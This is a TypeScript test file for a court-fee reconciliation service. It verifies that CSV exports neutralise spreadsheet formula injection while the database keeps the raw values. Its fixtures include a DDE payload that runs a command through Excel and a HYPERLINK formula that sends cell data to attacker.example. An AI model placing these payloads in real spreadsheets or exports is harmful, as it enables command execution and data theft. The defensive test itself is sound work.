import { expect } from 'chai';
import nock from 'nock';
import { parseCsv } from '../../src/reconciliation/csv';
import { api, auth } from '../support/builders';
import { keyFor, testEnv } from '../support/env';
import { COURT, configWith, dayOf, reconcile, stubProcessorDay } from '../support/reconciliation-fixtures';

describe('CSV downloads against formula injection', () => {
  afterEach(() => nock.cleanAll());

  it('when a case number from the case records and a resolution note are formulas, then the downloaded CSV carries them as text, amounts stay numbers, and the stored values are unchanged', async () => {
    const finance = await keyFor('finance', [COURT]);
    const day = dayOf('2024-03-05');
    const caseNumber = '=cmd|\' /C calc\'!A0';
    const note = '=HYPERLINK("http://attacker.example/?d="&A1,"x")';
    nock('https://cases.example').get('/fee-records').query({ courtCode: COURT, date: day.date })
      .reply(200, { data: [{ caseNumber, invoiceId: 'inv_unknownToUs', status: 'paid', paidAmount: 100, refundedAmount: 300 }] });
    stubProcessorDay([]);
    const r = await reconcile(day.date, { config: configWith({ caseRecordsUrl: 'https://cases.example/fee-records' }) });
    if (r.outcome !== 'completed') throw new Error(r.outcome);

    const items = await api().get(`/v1/reconciliations/${r.run.public_id}/items`).set(auth(finance));
    expect(items.status, items.text).to.equal(200);
    expect(items.body.data).to.have.length(1);
    const item = items.body.data[0];
    expect(item).to.include({ kind: 'case_record_mismatch', caseNumber, actualAmount: -200 });
    await api().post(`/v1/reconciliation-items/${item.id}/resolve`).set(auth(finance)).send({ note }).expect(200);

    const csv = await api().get(`/v1/reconciliations/${r.run.public_id}/items`).set(auth(finance)).set('accept', 'text/csv');
    expect(csv.status).to.equal(200);
    expect(csv.headers['content-type']).to.match(/^text\/csv/);
    const rows: (string | null)[][] = [];
    for await (const row of parseCsv([csv.text])) rows.push(row);
    expect(rows).to.have.length(2);
    const cell = (name: string) => rows[1][rows[0].indexOf(name)];
    expect(cell('case_number')).to.equal(`'${caseNumber}`);
    expect(cell('resolution_note')).to.equal(`'${note}`);
    expect(cell('actual_yuan')).to.equal('-2.00');
    for (const value of rows[1]) expect(value ?? '', String(value)).not.to.match(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);

    // Only the download is neutralised: the API and the database keep what was sent.
    const stored = await testEnv().knex('reconciliation_items').where({ public_id: item.id }).first();
    expect(stored).to.include({ case_number: caseNumber, resolution_note: note });
  });
});
